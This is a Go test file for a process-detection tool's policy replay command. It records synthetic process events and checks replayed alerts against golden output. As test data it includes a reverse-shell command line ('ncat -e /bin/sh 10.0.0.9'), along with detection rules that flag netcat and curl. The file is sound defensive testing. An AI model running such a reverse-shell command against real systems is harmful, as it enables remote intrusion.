package author

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/procession-dev/procession/internal/event"
	"github.com/procession-dev/procession/internal/recording"
)

// record writes a recording: bash runs ncat, curl, and ncat twice again.
func record(t *testing.T, file string) {
	t.Helper()
	const second = uint64(time.Second)
	h := recording.Header{Wall: 1_790_000_000 * int64(time.Second), Stamp: 100 * second, Boot: 160 * second, Kernel: "6.18.0", Mode: "recorder"}
	var b bytes.Buffer
	w, err := recording.NewWriter(&b, h)
	if err != nil {
		t.Fatal(err)
	}
	facts := func(ppid int32, args ...string) event.Facts {
		cmdline := strings.Join(args, "\x00") + "\x00"
		return event.Facts{
			Have: event.FieldSet(event.FieldParent, event.FieldName, event.FieldExe, event.FieldArgs, event.FieldIDs, event.FieldCgroup),
			From: event.SourceRecord, PPID: ppid, Comm: []byte(args[0]), Exe: []byte("/usr/bin/" + args[0]),
			Cmdline: []byte(cmdline), CmdlineLen: uint32(len(cmdline)), Cgroup: []byte("/system.slice/x.service"),
		}
	}
	check := func(err error) {
		if err != nil {
			t.Fatal(err)
		}
	}
	check(w.Process(&recording.Baseline{PID: 1, Facts: facts(0, "systemd")}))
	check(w.Process(&recording.Baseline{PID: 50, Facts: facts(1, "bash")}))
	for i, args := range [][]string{{"ncat", "-e", "/bin/sh", "10.0.0.9"}, {"curl", "http://x/"}, {"ncat", "-l"}, {"ncat", "-l"}} {
		at, child := h.Stamp+uint64(i+1)*second, int32(100+i)
		check(w.Record(&event.Record{Kind: event.Fork, Stamp: at, PID: 50, TGID: 50, PeerPID: child, PeerTGID: child}))
		check(w.Record(&event.Record{Kind: event.Exec, Stamp: at + 1000, PID: child, TGID: child, Facts: facts(50, args...)}))
	}
	check(w.Loss(recording.Loss{Events: 3}))
	check(w.Close())
	check(os.WriteFile(file, b.Bytes(), 0o600))
}

const (
	oldRules = `apiVersion: procession.dev/v1alpha1
kind: ClusterDetectionPolicy
metadata: {name: p}
spec:
  rules:
    - {name: netcat, events: [Exec], severity: High, condition: process.name == 'ncat', messageExpression: "'netcat: ' + process.cmdline"}
    - {name: download, events: [Exec], severity: Low, condition: process.name == 'curl'}
`
	newRules = `apiVersion: procession.dev/v1alpha1
kind: ClusterDetectionPolicy
metadata: {name: p}
spec:
  rules:
    - {name: netcat, events: [Exec], severity: Critical, condition: "process.name == 'ncat' && process.args.exists(a, a == '-e')", messageExpression: "'netcat: ' + process.cmdline"}
    - {name: web, events: [Exec], severity: Low, mode: DryRun, condition: process.cmdline.contains('http://')}
`
	calmRules = `apiVersion: procession.dev/v1alpha1
kind: ClusterDetectionPolicy
metadata: {name: p}
spec:
  rules:
    - {name: netcat, events: [Exec], severity: High, condition: process.name == 'ncat', messageExpression: "'netcat: ' + process.cmdline", aggregate: {window: 10m}}
    - {name: download, events: [Exec], severity: Low, condition: process.name == 'curl'}
`
)

func TestReplayScript(t *testing.T) {
	bin, dir := built(t), t.TempDir()
	record(t, filepath.Join(dir, "day.rec"))
	whole, err := os.ReadFile(filepath.Join(dir, "day.rec"))
	if err != nil {
		t.Fatal(err)
	}
	for name, data := range map[string]string{"old.yaml": oldRules, "new.yaml": newRules, "calm.yaml": calmRules,
		"folder.yaml": strings.Replace(oldRules, "process.name == 'curl'", "process.name == 'curl' && process.cwd == '/tmp'", 1), "cut.rec": string(whole[:len(whole)-2]),
		"damaged.rec": string(whole[:len(whole)-2]) + "xx", "broken.yaml": strings.Replace(oldRules, "process.name", "process.nmae", 1)} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	var out strings.Builder
	for _, c := range []string{
		"procession policy replay day.rec --policies old.yaml",
		"procession policy replay day.rec --policies new.yaml --against old.yaml",
		"procession policy replay day.rec --policies old.yaml --against old.yaml",
		"procession policy replay day.rec --policies calm.yaml --against old.yaml",
		"procession policy replay day.rec --policies old.yaml --limit 1",
		"procession policy replay day.rec --policies folder.yaml --limit 1",
		"procession policy replay day.rec --policies broken.yaml",
		"procession policy replay damaged.rec --policies old.yaml",
		"procession policy replay old.yaml --policies old.yaml",
		"procession policy replay cut.rec --policies old.yaml",
	} {
		out.WriteString(run(t, bin, dir, c))
	}
	golden := "testdata/replay.golden"
	if *update {
		if err := os.WriteFile(golden, []byte(out.String()), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(golden)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), out.String()); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}

// The JSON of a comparison is one object a line, and the same each time.
func TestReplayJSON(t *testing.T) {
	bin, dir := built(t), t.TempDir()
	record(t, filepath.Join(dir, "day.rec"))
	for name, data := range map[string]string{"old.yaml": oldRules, "new.yaml": newRules} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	replay := func() []string {
		cmd := exec.CommandContext(t.Context(), bin, "policy", "replay", "--format", "json", "day.rec", "--policies", "new.yaml", "--against", "old.yaml")
		cmd.Dir = dir
		out, err := cmd.Output()
		if err == nil || cmd.ProcessState.ExitCode() != ExitFindings {
			t.Fatalf("exit code %d, err %v", cmd.ProcessState.ExitCode(), err)
		}
		return strings.Split(strings.TrimSpace(string(out)), "\n")
	}
	lines := replay()
	if d := cmp.Diff(lines, replay()); d != "" {
		t.Errorf("two replays differ:\n%s", d)
	}
	var got []string
	for _, l := range lines {
		head, _, _ := strings.Cut(l, `,"alert"`)
		if strings.HasPrefix(l, `{"summary"`) {
			head = "summary"
		}
		got = append(got, head)
	}
	want := []string{
		`{"change":"changed","rule":"ClusterDetectionPolicy//p/netcat","dryRun":false`,
		`{"change":"added","rule":"ClusterDetectionPolicy//p/web","dryRun":true`,
		`{"change":"removed","rule":"ClusterDetectionPolicy//p/download","dryRun":false`,
		`{"change":"removed","rule":"ClusterDetectionPolicy//p/netcat","dryRun":false`,
		`{"change":"removed","rule":"ClusterDetectionPolicy//p/netcat","dryRun":false`,
		"summary",
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Errorf("-want +got:\n%s", d)
	}
}
